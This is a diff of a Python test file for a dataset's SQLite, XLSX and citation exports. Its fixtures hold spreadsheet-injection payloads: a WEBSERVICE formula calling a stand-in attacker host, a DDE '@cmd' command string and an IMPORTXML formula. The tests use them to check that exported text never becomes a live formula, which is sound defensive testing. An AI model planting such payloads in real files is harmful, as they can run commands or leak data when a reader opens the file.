@@ -64,7 +64,7 @@ PAYLOADS = [
 ]
 """Activities of the hostile records: formulas, an error value and a number, as text."""
 
-NOTE_PAYLOAD = "=IMPORTXML(A1,\"//a\")"
+NOTE_PAYLOAD = '=IMPORTXML(A1,"//a")'
 TITLE_PAYLOAD = '=WEBSERVICE("http://evil.example/")'
 SUMMARY_PAYLOAD = "@cmd|'/C calc'!A0 berpatroli"
 RELEASE = ("2024.1", date(2024, 11, 30))
@@ -76,13 +76,20 @@ def _hostile_id(number: int) -> str:
 
 def _hostile_record(number: int, payload: str) -> str:
     text = edit(BASE, f"id: {BASE_ID}", f"id: {_hostile_id(number)}")
-    text = edit(text, "activity: patroli dialogis menjelang pemungutan suara",
-                f"activity: {json.dumps(payload)}")
+    text = edit(
+        text,
+        "activity: patroli dialogis menjelang pemungutan suara",
+        f"activity: {json.dumps(payload)}",
+    )
     text = edit(text, "  - Jam kegiatan tidak disebutkan.", f"  - {json.dumps(NOTE_PAYLOAD)}")
-    text = edit(text, "title: Patroli Dialogis Menjelang Pemungutan Suara",
-                f"title: {json.dumps(TITLE_PAYLOAD)}")
-    return edit(text, "Polres Probolinggo berpatroli menjelang hari pemungutan suara.",
-                SUMMARY_PAYLOAD)
+    text = edit(
+        text,
+        "title: Patroli Dialogis Menjelang Pemungutan Suara",
+        f"title: {json.dumps(TITLE_PAYLOAD)}",
+    )
+    return edit(
+        text, "Polres Probolinggo berpatroli menjelang hari pemungutan suara.", SUMMARY_PAYLOAD
+    )
 
 
 @pytest.fixture(scope="module")
@@ -101,8 +108,10 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> SiteModel:
 
 def _counts(model: SiteModel) -> dict[str, int]:
     """Rows each table must have, from the definitions, not from the files."""
-    return {"records": len(model.records),
-            **{table.name: sum(1 for _ in table.rows(model)) for table in TABLES}}
+    return {
+        "records": len(model.records),
+        **{table.name: sum(1 for _ in table.rows(model)) for table in TABLES},
+    }
 
 
 def _write(tmp_path: Path, data: bytes, name: str) -> Path:
@@ -112,6 +121,7 @@ def _write(tmp_path: Path, data: bytes, name: str) -> Path:
 
 
 # --- SQLite through Datasette ------------------------------------------------------------
+
 
 def _free_port() -> int:
     with socket.socket() as probe:
@@ -124,9 +134,22 @@ def _datasette(path: Path, *requests: str) -> list[Any]:
     127.0.0.1, as a journalist opens it (``datasette records.sqlite``)."""
     port = _free_port()
     server = subprocess.Popen(
-        [sys.executable, "-m", "datasette", "serve", str(path), "--host", "127.0.0.1",
-         "--port", str(port), "--immutable", str(path)],
-        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        [
+            sys.executable,
+            "-m",
+            "datasette",
+            "serve",
+            str(path),
+            "--host",
+            "127.0.0.1",
+            "--port",
+            str(port),
+            "--immutable",
+            str(path),
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+    )
     try:
         base = f"http://127.0.0.1:{port}"
         deadline = time.monotonic() + 60
@@ -153,18 +176,17 @@ def _datasette(path: Path, *requests: str) -> list[Any]:
 
 @pytest.fixture(scope="module")
 def real_sqlite(real: SiteModel, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return _write(tmp_path_factory.mktemp("real"), sqlite_bytes(real, SITE_URL),
-                  "records.sqlite")
+    return _write(tmp_path_factory.mktemp("real"), sqlite_bytes(real, SITE_URL), "records.sqlite")
 
 
 @pytest.fixture(scope="module")
 def hostile_sqlite(hostile: SiteModel, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return _write(tmp_path_factory.mktemp("hostile-db"), sqlite_bytes(hostile, SITE_URL),
-                  "records.sqlite")
+    return _write(
+        tmp_path_factory.mktemp("hostile-db"), sqlite_bytes(hostile, SITE_URL), "records.sqlite"
+    )
 
 
-def test_datasette_serves_every_table_with_its_rows(real: SiteModel, real_sqlite: Path
-                                                    ) -> None:
+def test_datasette_serves_every_table_with_its_rows(real: SiteModel, real_sqlite: Path) -> None:
     (database,) = _datasette(real_sqlite, "/records.json")
     tables = {table["name"]: table for table in database["tables"]}
     visible = {name for name, table in tables.items() if not table["hidden"]}
@@ -177,8 +199,9 @@ def test_datasette_serves_every_table_with_its_rows(real: SiteModel, real_sqlite
     assert {view["name"] for view in database["views"]} == {"record_units_named"}
 
 
-def test_datasette_reads_the_records_as_csv_row_gives_them(real: SiteModel, real_sqlite: Path
-                                                          ) -> None:
+def test_datasette_reads_the_records_as_csv_row_gives_them(
+    real: SiteModel, real_sqlite: Path
+) -> None:
     (rows,) = _datasette(real_sqlite, "/records/records.json?_shape=array&_size=max")
     assert len(rows) == len(real.records)
     by_id = {row["id"]: row for row in rows}
@@ -186,15 +209,17 @@ def test_datasette_reads_the_records_as_csv_row_gives_them(real: SiteModel, real
         expected = csv_row(page, SITE_URL)
         got = by_id[page.id]
         assert list(got) == ["rowid", *RECORD_COLUMNS] or list(got) == RECORD_COLUMNS
-        assert {name: "" if got[name] is None else str(got[name])
-                for name in RECORD_COLUMNS} == expected
+        assert {
+            name: "" if got[name] is None else str(got[name]) for name in RECORD_COLUMNS
+        } == expected
         assert isinstance(got["days_before_vote"], int)
 
 
 def _words_of(page: Any) -> set[str]:
     row = csv_row(page, SITE_URL)
-    text = " ".join(row[name] for name in ("id", "activity", "summary", "summary_en",
-                                            "quality_notes"))
+    text = " ".join(
+        row[name] for name in ("id", "activity", "summary", "summary_en", "quality_notes")
+    )
     return set(re.findall(r"[^\W_]+", text.lower()))
 
 
@@ -216,8 +241,7 @@ def test_datasette_searches_the_records(real: SiteModel, real_sqlite: Path) -> N
 
 
 def test_datasette_finds_a_formula_as_words(hostile_sqlite: Path) -> None:
-    (rows,) = _datasette(hostile_sqlite, "/records/records_fts.json?_search=HYPERLINK"
-                                         "&_shape=array")
+    (rows,) = _datasette(hostile_sqlite, "/records/records_fts.json?_search=HYPERLINK&_shape=array")
     assert [row["id"] for row in rows] == [_hostile_id(0)]
     assert rows[0]["activity"] == PAYLOADS[0]
 
@@ -229,50 +253,70 @@ def test_datasette_reads_the_view(real: SiteModel, real_sqlite: Path) -> None:
     assert all(row["unit_name"] == names[row["unit_id"]] for row in rows)
 
 
-def _foreign_keys(connection: sqlite3.Connection, table: str
-                  ) -> set[tuple[str, tuple[str, ...], tuple[str, ...]]]:
+def _foreign_keys(
+    connection: sqlite3.Connection, table: str
+) -> set[tuple[str, tuple[str, ...], tuple[str, ...]]]:
     """(referenced table, columns, referenced columns) of every foreign key of ``table``."""
     keys: dict[int, list[Any]] = {}
     for key_id, _, target, column, target_column, *_ in connection.execute(
-            f"PRAGMA foreign_key_list({table})"):
+        f"PRAGMA foreign_key_list({table})"
+    ):
         keys.setdefault(key_id, []).append((target, column, target_column))
-    return {(parts[0][0], tuple(p[1] for p in parts), tuple(p[2] for p in parts))
-            for parts in keys.values()}
+    return {
+        (parts[0][0], tuple(p[1] for p in parts), tuple(p[2] for p in parts))
+        for parts in keys.values()
+    }
 
 
 @pytest.mark.parametrize("which", ["real_sqlite", "hostile_sqlite"])
-def test_sqlite_keys_hold_and_follow_the_definitions(which: str,
-                                                     request: pytest.FixtureRequest) -> None:
+def test_sqlite_keys_hold_and_follow_the_definitions(
+    which: str, request: pytest.FixtureRequest
+) -> None:
     path: Path = request.getfixturevalue(which)
     with closing(sqlite3.connect(path)) as connection:
         assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
         assert connection.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
         for table in TABLES:
             assert _foreign_keys(connection, table.name) == {
-                (key.table, key.columns, key.table_columns) for key in table.foreign_keys}
+                (key.table, key.columns, key.table_columns) for key in table.foreign_keys
+            }
             info = connection.execute(f"PRAGMA table_info({table.name})").fetchall()
             assert [row[1] for row in info] == [column.name for column in table.columns]
             assert [row[2] for row in info] == [
-                "INTEGER" if column.type == "integer" else "TEXT" for column in table.columns]
+                "INTEGER" if column.type == "integer" else "TEXT" for column in table.columns
+            ]
             in_key = sorted((row[5], row[1]) for row in info if row[5])
             assert tuple(name for _, name in in_key) == table.primary_key
         assert {target for target, _, _ in _foreign_keys(connection, "records")} == {
-            "elections", "operations", "regions", "units"}
+            "elections",
+            "operations",
+            "regions",
+            "units",
+        }
 
 
 def test_sqlite_keeps_exact_text_and_types(hostile: SiteModel, hostile_sqlite: Path) -> None:
     with closing(sqlite3.connect(hostile_sqlite)) as connection:
-        activities = dict(connection.execute(
-            "SELECT id, activity FROM records WHERE id LIKE ?", (f"{BASE_ID}-%",)))
+        activities = dict(
+            connection.execute(
+                "SELECT id, activity FROM records WHERE id LIKE ?", (f"{BASE_ID}-%",)
+            )
+        )
         assert activities == {_hostile_id(n): payload for n, payload in enumerate(PAYLOADS)}
         notes, summary, added, days, date_type, no_end = connection.execute(
             "SELECT quality_notes, summary, added, typeof(days_before_vote), typeof(date), "
-            "date_end IS NULL FROM records WHERE id = ?", (_hostile_id(0),)).fetchone()
+            "date_end IS NULL FROM records WHERE id = ?",
+            (_hostile_id(0),),
+        ).fetchone()
         assert notes.endswith("; " + NOTE_PAYLOAD)
         assert summary.startswith(SUMMARY_PAYLOAD)
         assert (added, days, date_type, no_end) == ("2024-11-30", "integer", "text", 1)
-        titles = {title for (title,) in connection.execute(
-            "SELECT title FROM record_sources WHERE record_id LIKE ?", (f"{BASE_ID}-%",))}
+        titles = {
+            title
+            for (title,) in connection.execute(
+                "SELECT title FROM record_sources WHERE record_id LIKE ?", (f"{BASE_ID}-%",)
+            )
+        }
         assert titles == {TITLE_PAYLOAD}
         # Empty is NULL, never "": a reader's IS NULL finds every missing value.
         rows = connection.execute("SELECT * FROM records").fetchall()
@@ -289,10 +333,12 @@ def test_pandas_reads_region_codes_as_text(real: SiteModel, real_sqlite: Path) -
     assert "35.1" not in codes
     assert all(isinstance(code, str) for code in codes)
     assert dict(zip(records["id"], records["region"], strict=True)) == {
-        page.id: page.record.region for page in real.records}
+        page.id: page.record.region for page in real.records
+    }
 
 
 # --- XLSX -------------------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def real_xlsx(real: SiteModel) -> bytes:
@@ -315,12 +361,15 @@ def _rows(sheet: Any) -> Iterator[dict[str, Any]]:
         yield dict(zip(header, row, strict=True))
 
 
-def test_xlsx_has_a_sheet_per_table_with_its_header_and_rows(real: SiteModel, real_xlsx: bytes
-                                                              ) -> None:
+def test_xlsx_has_a_sheet_per_table_with_its_header_and_rows(
+    real: SiteModel, real_xlsx: bytes
+) -> None:
     book = _book(real_xlsx)
     assert book.sheetnames == SHEETS
-    columns = {"records": RECORD_COLUMNS,
-               **{table.name: [c.name for c in table.columns] for table in TABLES}}
+    columns = {
+        "records": RECORD_COLUMNS,
+        **{table.name: [c.name for c in table.columns] for table in TABLES},
+    }
     for name, count in _counts(real).items():
         sheet = book[name]
         assert [cell.value for cell in sheet[1]] == columns[name]
@@ -333,8 +382,10 @@ def test_xlsx_records_are_csv_row_values_typed(real: SiteModel, real_xlsx: bytes
     rows = {row["id"].value: row for row in _rows(_book(real_xlsx)["records"])}
     for page in real.records:
         cells = rows[page.id]
-        assert {name: "" if cells[name].value is None else str(cells[name].value)
-                for name in RECORD_COLUMNS} == csv_row(page, SITE_URL)
+        assert {
+            name: "" if cells[name].value is None else str(cells[name].value)
+            for name in RECORD_COLUMNS
+        } == csv_row(page, SITE_URL)
         assert cells["days_before_vote"].data_type == "n"
         assert isinstance(cells["days_before_vote"].value, int)
         assert cells["date"].data_type == "s"  # ISO text, not a spreadsheet date
@@ -357,8 +408,11 @@ def test_xlsx_text_is_never_a_formula(hostile_xlsx: bytes) -> None:
     assert notes.value.endswith("; " + NOTE_PAYLOAD)
     summary = rows[_hostile_id(0)]["summary"]
     assert (summary.value.split("\n")[0], summary.data_type) == (SUMMARY_PAYLOAD, "s")
-    titles = [row["title"] for row in _rows(book["record_sources"])
-              if row["record_id"].value.startswith(BASE_ID)]
+    titles = [
+        row["title"]
+        for row in _rows(book["record_sources"])
+        if row["record_id"].value.startswith(BASE_ID)
+    ]
     assert {(cell.value, cell.data_type) for cell in titles} == {(TITLE_PAYLOAD, "s")}
 
 
@@ -377,41 +431,60 @@ def test_libreoffice_opens_no_formula(hostile_xlsx: bytes, tmp_path: Path) -> No
     assert office, "LibreOffice is not installed: run tests/setup-system.sh"
     source = _write(tmp_path, hostile_xlsx, "records.xlsx")
     subprocess.run(
-        [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
-         "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(source)],
-        check=True, capture_output=True, timeout=180)
+        [
+            office,
+            "--headless",
+            f"-env:UserInstallation=file://{tmp_path}/profile",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+            str(tmp_path / "out"),
+            str(source),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
     book = openpyxl.load_workbook(tmp_path / "out" / "records.xlsx")
     sheet = book["records"]
     assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
     activities = {row["id"].value: row["activity"].value for row in _rows(sheet)}
     assert {_hostile_id(n): activities[_hostile_id(n)] for n in range(len(PAYLOADS))} == {
-        _hostile_id(n): payload for n, payload in enumerate(PAYLOADS)}
+        _hostile_id(n): payload for n, payload in enumerate(PAYLOADS)
+    }
 
 
-def test_xlsx_dates_and_properties_come_from_the_data(hostile_xlsx: bytes,
-                                                      real: SiteModel, real_xlsx: bytes
-                                                      ) -> None:
+def test_xlsx_dates_and_properties_come_from_the_data(
+    hostile_xlsx: bytes, real: SiteModel, real_xlsx: bytes
+) -> None:
     version, day = RELEASE
     properties = _book(hostile_xlsx).properties
     assert (properties.title, properties.creator, properties.version) == (
         "Kegiatan pengamanan Pemilu dan Pilkada 2024 / Election-security activity",
-        "Redaksi Contoh", version)
+        "Redaksi Contoh",
+        version,
+    )
     assert properties.identifier == f"{SITE_URL}/data/"
     assert "CC BY 4.0" in properties.description
     for data, expected in ((hostile_xlsx, day), (real_xlsx, release_date(real) or UNRELEASED_DAY)):
         with zipfile.ZipFile(io.BytesIO(data)) as archive:
             assert {entry.date_time for entry in archive.infolist()} == {
-                (expected.year, expected.month, expected.day, 0, 0, 0)}
+                (expected.year, expected.month, expected.day, 0, 0, 0)
+            }
             core = archive.read("docProps/core.xml").decode()
         stamps = re.findall(r"<dcterms:(created|modified)[^>]*>([^<]*)<", core)
-        assert sorted(stamps) == [("created", f"{expected.isoformat()}T00:00:00Z"),
-                                  ("modified", f"{expected.isoformat()}T00:00:00Z")]
+        assert sorted(stamps) == [
+            ("created", f"{expected.isoformat()}T00:00:00Z"),
+            ("modified", f"{expected.isoformat()}T00:00:00Z"),
+        ]
 
 
 # --- Determinism ------------------------------------------------------------------------
 
-def test_same_model_same_bytes(hostile: SiteModel, hostile_xlsx: bytes, hostile_sqlite: Path
-                               ) -> None:
+
+def test_same_model_same_bytes(
+    hostile: SiteModel, hostile_xlsx: bytes, hostile_sqlite: Path
+) -> None:
     assert sqlite_bytes(hostile, SITE_URL) == hostile_sqlite.read_bytes()
     assert xlsx_bytes(hostile, SITE_URL, publisher="Redaksi Contoh") == hostile_xlsx
 
@@ -431,10 +504,19 @@ for data in (sqlite_bytes(model, sys.argv[2]), xlsx_bytes(model, sys.argv[2])):
 def test_bytes_depend_on_neither_hash_seed_nor_time_zone(real: SiteModel) -> None:
     """Another process, another hash seed and time zone (zip dates were local time)."""
     env = {**os.environ, "PYTHONHASHSEED": "4242", "TZ": "Asia/Jayapura", "PYTHONPATH": str(ROOT)}
-    done = subprocess.run([sys.executable, "-c", _DIGESTS, str(CONTENT), SITE_URL], cwd=ROOT,
-                          env=env, capture_output=True, text=True, timeout=300, check=True)
-    assert done.stdout.split() == [hashlib.sha256(sqlite_bytes(real, SITE_URL)).hexdigest(),
-                                   hashlib.sha256(xlsx_bytes(real, SITE_URL)).hexdigest()]
+    done = subprocess.run(
+        [sys.executable, "-c", _DIGESTS, str(CONTENT), SITE_URL],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=True,
+    )
+    assert done.stdout.split() == [
+        hashlib.sha256(sqlite_bytes(real, SITE_URL)).hexdigest(),
+        hashlib.sha256(xlsx_bytes(real, SITE_URL)).hexdigest(),
+    ]
 
 
 # --- Citation ---------------------------------------------------------------------------
@@ -465,30 +547,38 @@ def _parse_bib(text: str) -> tuple[str, str, dict[str, str]]:
     head = re.match(r"@(\w+)\{([A-Za-z0-9.:_-]+),\s*", text)
     assert head, text
     fields, index = {}, head.end()
-    while (field := _FIELD.match(text, index)):
+    while field := _FIELD.match(text, index):
         index = _braced(text, field.end())
-        fields[field.group(1)] = text[field.end() + 1:index - 1]
+        fields[field.group(1)] = text[field.end() + 1 : index - 1]
     assert text[index:] == "\n}\n", text[index:]
     return head.group(1), head.group(2), fields
 
 
 def _unescape(value: str) -> str:
-    value = (value.replace(r"\textbackslash{}", "\\").replace(r"\textasciicircum{}", "^")
-             .replace(r"\textasciitilde{}", "~"))
+    value = (
+        value.replace(r"\textbackslash{}", "\\")
+        .replace(r"\textasciicircum{}", "^")
+        .replace(r"\textasciitilde{}", "~")
+    )
     return re.sub(r"\\([{}$&%#_])", r"\1", value)
 
 
 def test_bibtex_entry_is_balanced_and_complete() -> None:
-    text = citation_bib(HOSTILE_TITLE, "Pemilu Aman Data", "2024.1", date(2024, 11, 30),
-                        f"{SITE_URL}/data/")
+    text = citation_bib(
+        HOSTILE_TITLE, "Pemilu Aman Data", "2024.1", date(2024, 11, 30), f"{SITE_URL}/data/"
+    )
     kind, key, fields = _parse_bib(text)
     assert (kind, key) == ("misc", "pemilu-aman-data-2024.1")
     assert {"title", "author", "publisher", "version", "year", "url", "note"} <= set(fields)
-    assert _unescape(fields["title"].removeprefix("{").removesuffix("}")) == \
-        " ".join(HOSTILE_TITLE.split())
+    assert _unescape(fields["title"].removeprefix("{").removesuffix("}")) == " ".join(
+        HOSTILE_TITLE.split()
+    )
     assert fields["author"] == "{Pemilu Aman Data}"
     assert (fields["publisher"], fields["version"], fields["year"]) == (
-        "Pemilu Aman Data", "2024.1", "2024")
+        "Pemilu Aman Data",
+        "2024.1",
+        "2024",
+    )
     assert fields["date"] == "2024-11-30"
     assert fields["url"] == f"{SITE_URL}/data/"
     assert "CC BY 4.0" in fields["note"]
@@ -500,16 +590,29 @@ def test_bibtex_url_cannot_break_the_entry() -> None:
 
 
 def test_csl_json_is_one_dataset() -> None:
-    (item,) = citation_csl(HOSTILE_TITLE, "Pemilu Aman Data", "2024.1", date(2024, 11, 30),
-                           f"{SITE_URL}/data/")
+    (item,) = citation_csl(
+        HOSTILE_TITLE, "Pemilu Aman Data", "2024.1", date(2024, 11, 30), f"{SITE_URL}/data/"
+    )
     json.dumps(item)  # plain JSON values only
     assert item["type"] == "dataset"
     assert item["issued"] == {"date-parts": [[2024, 11, 30]]}
     assert item["URL"] == f"{SITE_URL}/data/"
     assert (item["title"], item["version"], item["publisher"]) == (
-        HOSTILE_TITLE, "2024.1", "Pemilu Aman Data")
+        HOSTILE_TITLE,
+        "2024.1",
+        "Pemilu Aman Data",
+    )
     assert item["author"] == [{"literal": "Pemilu Aman Data"}]
     assert "CC BY 4.0" in item["note"]
     # Only variables of CSL-JSON's schema (it allows no others).
-    assert set(item) <= {"id", "type", "title", "author", "publisher", "version", "issued",
-                         "URL", "note"}
+    assert set(item) <= {
+        "id",
+        "type",
+        "title",
+        "author",
+        "publisher",
+        "version",
+        "issued",
+        "URL",
+        "note",
+    }
